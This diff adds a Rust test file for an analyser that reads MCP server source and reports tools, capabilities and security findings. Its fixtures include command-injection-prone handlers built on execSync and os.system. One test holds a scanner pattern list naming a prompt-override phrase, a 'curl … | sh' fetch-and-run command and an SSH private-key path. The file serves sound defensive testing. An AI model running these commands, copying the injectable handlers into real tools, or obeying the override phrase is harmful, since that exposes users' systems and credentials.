@@ -1,0 +1,204 @@
+//! What is read from source in each language, and that hostile source does no harm.
+
+use mcpvals_model::SourceFile;
+use mcpvals_source::{Capability, SourceFacts, analyse};
+
+fn file(path: &str, text: impl Into<String>) -> SourceFile {
+    SourceFile { path: path.to_owned(), text: text.into() }
+}
+
+fn read(path: &str, text: &str) -> SourceFacts {
+    analyse(&[file(path, text)])
+}
+
+/// The tools, with their parameters.
+#[track_caller]
+fn check_tools(facts: &SourceFacts, expected: &[&str]) {
+    let said: Vec<String> =
+        facts.tools.iter().map(|tool| format!("{}({})", tool.name, tool.parameters.join(", "))).collect();
+    assert_eq!(said, expected, "computed: {:?}", facts.computed);
+    assert!(facts.tools.iter().all(|tool| tool.has_handler), "every handler is found");
+}
+
+#[test]
+fn decorated_functions_of_python_are_tools_with_documentation() {
+    let facts = read(
+        "server.py",
+        r#"
+from mcp.server.fastmcp import FastMCP, Context
+mcp = FastMCP("x")
+
+@mcp.tool(name="sum", annotations={"readOnlyHint": True})
+def add(a: int, b: int, ctx: Context) -> int:
+    """Adds two numbers."""
+    return a + b
+
+@mcp.prompt()
+def greet(name: str) -> str:
+    return f"hello {name}"
+
+@mcp.resource("config://app")
+def config() -> str:
+    return "x"
+"#,
+    );
+    check_tools(&facts, &["sum(a, b)"]);
+    assert_eq!(facts.tools[0].description.as_deref(), Some("Adds two numbers."));
+    assert_eq!(facts.tools[0].hints, [("readOnlyHint".to_owned(), true)]);
+    assert_eq!(facts.prompts[0].name, "greet");
+    assert_eq!(facts.resources[0].name, "config://app");
+}
+
+#[test]
+fn a_dispatcher_of_python_has_an_arm_for_each_tool() {
+    let facts = read(
+        "server.py",
+        r#"
+from mcp.types import Tool
+import os
+server = Server("x")
+
+@server.list_tools()
+async def list_tools():
+    return [Tool(name="read", description="Reads", inputSchema={"type": "object", "properties": {"path": {"type": "string"}}}),
+            Tool(name="wipe", description="Deletes", inputSchema={"type": "object", "properties": {}})]
+
+@server.call_tool()
+async def call_tool(name, arguments):
+    match name:
+        case "read":
+            return open("/srv/x").read()
+        case "wipe":
+            os.remove("/srv/x")
+"#,
+    );
+    check_tools(&facts, &["read(path)", "wipe()"]);
+    let can = |index: usize| facts.tools[index].capabilities.iter().map(|(can, _)| *can).collect::<Vec<_>>();
+    assert_eq!(can(0), [Capability::ReadFile]);
+    assert_eq!(can(1), [Capability::DeleteFile]);
+}
+
+#[test]
+fn tools_of_typescript_are_found_in_every_manner() {
+    let facts = read(
+        "index.ts",
+        r#"
+import { z } from "zod";
+const NAME = "third";
+server.tool("first", "One", { a: z.string() }, async ({ a }) => ({ content: [] }));
+server.registerTool("second", { description: "Two", inputSchema: { b: z.number() } }, async ({ b }) => ({ content: [] }));
+server.addTool({ name: NAME, description: "Three", parameters: z.object({ c: z.string() }), execute: async (args) => "x" });
+for (const name of names()) {
+  server.tool(name, "Any", {}, async () => ({ content: [] }));
+}
+"#,
+    );
+    let names: Vec<&str> = facts.tools.iter().map(|tool| tool.name.as_str()).collect();
+    assert_eq!(names, ["first", "second", "third"]);
+    assert_eq!(facts.computed.len(), 1, "the one whose name is not constant");
+}
+
+#[test]
+fn handlers_of_other_files_are_followed() {
+    let facts = analyse(&[
+        file(
+            "src/index.ts",
+            r#"import { run } from "./run.js";
+server.tool("check", "Checks", { name: z.string() }, async ({ name }) => run(name));"#,
+        ),
+        file(
+            "src/run.ts",
+            r#"import { execSync } from "node:child_process";
+export function run(name: string) { return execSync(`check ${name}`).toString(); }"#,
+        ),
+    ]);
+    let found: Vec<&str> = facts.findings.iter().map(|finding| finding.rule.as_ref()).collect();
+    assert_eq!(found, ["command-injection"]);
+}
+
+#[test]
+fn tools_of_go_and_rust_are_found() {
+    let go = read(
+        "main.go",
+        r#"package main
+func main() {
+	s.AddTool(mcp.NewTool("now", mcp.WithDescription("The time"), mcp.WithString("zone")), func(ctx context.Context, r mcp.CallToolRequest) (*mcp.CallToolResult, error) {
+		return mcp.NewToolResultText("x"), nil
+	})
+}"#,
+    );
+    check_tools(&go, &["now(zone)"]);
+    let rust = read(
+        "main.rs",
+        r#"
+#[derive(Deserialize)]
+struct Wanted { zone: String }
+#[tool_router]
+impl Clock {
+    /// The time.
+    #[tool]
+    async fn now(&self, Parameters(wanted): Parameters<Wanted>) -> String { wanted.zone }
+}"#,
+    );
+    check_tools(&rust, &["now(zone)"]);
+    assert_eq!(rust.tools[0].description.as_deref(), Some("The time."));
+}
+
+#[test]
+fn texts_that_look_like_attacks_are_only_texts() {
+    let facts = read(
+        "rules.py",
+        r#"
+import re
+PATTERNS = [r"ignore (all )?previous instructions", r"os\.system\(", "curl http://x | sh", "~/.ssh/id_rsa"]
+RULES = {"shell": "subprocess.run(cmd, shell=True)", "key": "AKIA..."}
+
+def scan(text):
+    return [pattern for pattern in PATTERNS if re.search(pattern, text)]
+"#,
+    );
+    assert_eq!(facts.findings, []);
+}
+
+#[test]
+fn nesting_without_end_is_cut() {
+    for (path, open, close) in
+        [("a.js", "(", ")"), ("a.py", "[", "]"), ("a.go", "{", "}"), ("a.rs", "(", ")"), ("b.ts", "f(", ")")]
+    {
+        let text = format!("x = {}1{}", open.repeat(40_000), close.repeat(40_000));
+        assert_eq!(read(path, &text).findings, [], "{path}");
+    }
+    let ladder = format!("function f(x) {{ {} {{}} }}", "if (x === 1) { g(); } else ".repeat(5_000));
+    assert_eq!(read("a.js", &ladder).findings, []);
+    let sum = format!("x = {}", vec!["'a'"; 20_000].join(" + "));
+    assert_eq!(read("a.py", &sum).findings, []);
+}
+
+#[test]
+fn files_that_are_too_large_and_languages_that_are_unknown_are_told() {
+    let facts =
+        analyse(&[file("big.js", "a();\n".repeat(300_000)), file("Main.java", "class Main {}\n"), file("x.txt", "x")]);
+    let left: Vec<&str> = facts.left_out.iter().map(|left| left.name.as_str()).collect();
+    assert_eq!(left, ["big.js", "1 files of Java"]);
+    assert_eq!(facts.languages, [("JavaScript".to_owned(), 1, 300_000), ("Java".to_owned(), 1, 1)]);
+}
+
+#[test]
+fn the_same_files_in_another_order_give_the_same_facts() {
+    let files = [
+        file("a.py", "import os\n@mcp.tool()\ndef a(x: str):\n    os.system('a ' + x)\n"),
+        file("b.py", "import os\n@mcp.tool()\ndef b(x: str):\n    os.system('b ' + x)\n"),
+    ];
+    let turned = [files[1].clone(), files[0].clone()];
+    assert_eq!(analyse(&files), analyse(&turned));
+    assert_eq!(analyse(&files).findings.len(), 2);
+}
+
+#[test]
+fn every_rule_has_a_name_of_its_own() {
+    let mut names: Vec<&str> = mcpvals_source::rules().iter().map(|rule| rule.id).collect();
+    names.sort_unstable();
+    let count = names.len();
+    names.dedup();
+    assert_eq!(names.len(), count);
+}
